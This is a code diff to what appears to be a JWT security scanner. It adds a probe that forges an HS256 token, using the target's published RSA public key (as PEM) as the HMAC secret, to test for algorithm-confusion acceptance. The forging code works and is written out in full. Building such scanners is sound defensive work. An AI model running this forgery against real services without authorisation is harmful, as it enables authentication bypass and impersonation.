@@ -9,6 +9,7 @@ from __future__ import annotations
 import base64
 import hashlib
 import hmac
+import json
 import secrets
 from collections.abc import Callable
 from concurrent.futures import ThreadPoolExecutor
@@ -242,6 +243,25 @@ def _jwk_trusted(spry: Spry) -> bool:
     key = secrets.token_bytes(32)
     jwk = {"kty": "oct", "k": base64.urlsafe_b64encode(key).rstrip(b"=").decode()}
     return _resource_accepts(spry, _forge(spry.cc_token(), key, "HS256", jwk=jwk))
+
+
+def _public_key_as_hmac_secret(spry: Spry) -> bool:
+    """RS256 tokens; an HS256 token signed with the published key's PEM is accepted (algorithm confusion)."""
+    from cryptography.hazmat.primitives import serialization
+    from jwt.algorithms import RSAAlgorithm
+
+    published = spry.http.get("/.well-known/jwks.json")
+    if published.status_code != 200:  # HMAC-signed tokens: no public key to confuse
+        return False
+    (key,) = published.json()["keys"]
+    pem = RSAAlgorithm.from_jwk(key).public_bytes(  # type: ignore[union-attr]
+        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
+    )
+    head, body, _ = spry.cc_token().split(".")
+    header = json.dumps({"alg": "HS256", "typ": "JWT"}).encode()
+    signing_input = base64.urlsafe_b64encode(header).rstrip(b"=").decode() + "." + body
+    signature = base64.urlsafe_b64encode(hmac.new(pem, signing_input.encode(), hashlib.sha256).digest())
+    return _resource_accepts(spry, signing_input + "." + signature.rstrip(b"=").decode())
 
 
 def _weak_key(spry: Spry) -> bool:
@@ -505,6 +525,7 @@ PROBES: dict[str, Probe] = {
     ),
     "alg-confusion-hs512": lambda s: _resource_accepts(s, _empty_key_hs512(s.cc_token())),
     "jwk-header-trusted": _jwk_trusted,
+    "rs256-alg-confusion": _public_key_as_hmac_secret,
     "weak-signing-key": _weak_key,
     "jwt-no-exp": lambda s: "exp" not in claims(s.cc_token()),
     "jwt-leaks-secret": lambda s: s.client()["client_secret"] in str(claims(s.cc_token())),
